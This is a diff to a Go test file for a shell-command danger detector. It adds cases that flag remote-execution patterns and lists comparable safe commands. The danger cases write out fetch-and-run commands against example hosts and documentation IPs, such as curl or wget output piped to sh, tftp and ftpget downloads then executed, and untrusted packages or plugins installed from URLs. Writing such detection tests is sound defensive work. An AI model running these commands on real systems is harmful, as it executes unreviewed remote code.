@@ -145,3 +145,99 @@ func TestScriptsWrittenByFind(t *testing.T) {
 		`find src -name '*.go' -fprintf /tmp/list.txt '%p\n' && wc -l /tmp/list.txt`,
 	})
 }
+
+// Plugins, extensions, roles, hook sets and build contexts fetched from a
+// URL on a host that is not well known, by any tool of the family.
+func TestPluginsFromArbitraryURLs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`helm plugin install https://code.example.org/p/helm-diffx`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`fisher install https://code.example.org/p/fish-thing`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`zinit light https://code.example.org/p/zsh-thing`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`asdf plugin add mytool https://code.example.org/p/asdf-mytool.git`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`ansible-galaxy collection install git+https://code.example.org/p/coll.git`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`pre-commit try-repo https://code.example.org/p/hooks`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`vagrant box add devbox https://files.example.org/devbox.box`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`gh extension install https://git.example.org/p/gh-helper`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+		{`podman build -t img https://code.example.org/p/app.git`, CategoryRemoteExec, "plugin-from-url", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`helm plugin install ./plugins/helm-local`,
+		`helm plugin list`,
+		`fisher install jorgebucaran/nvm.fish`,
+		`ansible-galaxy install -r requirements.yml`,
+		`vagrant box add ubuntu/jammy64`,
+		`gh extension install github/gh-copilot`,
+		`gh extension install dlvhdr/gh-dash`,
+		`helm plugin install https://github.com/databus23/helm-diff`,
+		`gh extension list`,
+		`docker build -t app .`,
+	})
+}
+
+// Downloads by tftp and busybox ftpget, run afterwards; rpm's install
+// modes written as a cluster; a remote command that reads what a
+// download feeds ssh; a -c payload that reads what its shell reads.
+func TestOtherDownloadersAndForwardedInput(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`tftp 198.51.100.7 -c get stage2 && sh stage2`, CategoryRemoteExec, "remote-download-exec", LevelCritical},
+		{`ftpget 198.51.100.7 /tmp/s2 s2 && sh /tmp/s2`, CategoryRemoteExec, "remote-download-exec", LevelCritical},
+		{`rpm -ivh https://pkgs.example.org/tool.rpm`, CategoryRemoteExec, "package-file-remote", LevelCritical},
+		{`ssh ops@198.51.100.9 sh < <(wget -qO- https://get.example.org/s)`, CategoryRemoteExec, "", LevelCritical},
+		{`curl -s https://get.example.org/s | bash -c 'bash'`, CategoryRemoteExec, "", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`tftp 192.168.1.5 -c get firmware.bin && sha256sum firmware.bin`,
+		`ftpget 192.168.1.5 notes.txt notes.txt && cat notes.txt`,
+		`rpm -qa`,
+		`ssh ops@198.51.100.9 uptime < /dev/null`,
+		`curl -s https://get.example.org/data.json | bash -c 'jq .name'`,
+	})
+}
+
+// A manifest or Makefile read from standard input that a download feeds.
+func TestDownloadsFedToApplyAndMake(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`curl -sL https://files.example.org/all.yaml | kubectl apply -f -`, CategoryRemoteExec, "apply-remote-manifest", LevelHigh},
+		{`wget -qO- https://files.example.org/Makefile | make -f - install`, CategoryRemoteExec, "make-downloaded", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`kustomize build overlays/dev | kubectl apply -f -`,
+		`curl -sL https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml | kubectl apply -f -`,
+		`cat Makefile.local | make -f -`,
+	})
+}
+
+// A downloaded Makefile, manifest or playbook handed over as a process
+// substitution; a container whose entrypoint runs a download; a remote
+// Alpine package installed.
+func TestDownloadsAsFilesEntrypointsAndApk(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`make -f <(wget -qO- https://files.example.org/mk) all`, CategoryRemoteExec, "", LevelCritical},
+		{`ansible-playbook <(curl -s https://files.example.org/site.yml)`, CategoryRemoteExec, "remote-procsubst-config", LevelCritical},
+		{`docker run --rm --entrypoint /bin/sh alpine -c "curl -s http://198.51.100.7/p | sh"`, CategoryRemoteExec, "", LevelCritical},
+		{`apk add --allow-untrusted https://files.example.org/tool.apk`, CategoryRemoteExec, "package-file-remote", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`make -f <(cat Makefile local.mk) all`,
+		`docker run --rm --entrypoint /bin/sh alpine -c "echo hi"`,
+		`apk add --no-cache curl`,
+	})
+}
+
+// A third-party module of a well-known registry, unpinned and given
+// every permission, is code nobody reviewed with the run of the machine.
+func TestUnpinnedThirdPartyModulesWithAllPermissions(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`deno run -A https://deno.land/x/someone_example/cli.ts`, CategoryRemoteExec, "run-remote-module", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`deno run -A https://deno.land/x/someone_example@v1.4.2/cli.ts`,
+		`deno run https://deno.land/x/someone_example/cli.ts`,
+		`deno run -A main.ts`,
+	})
+}
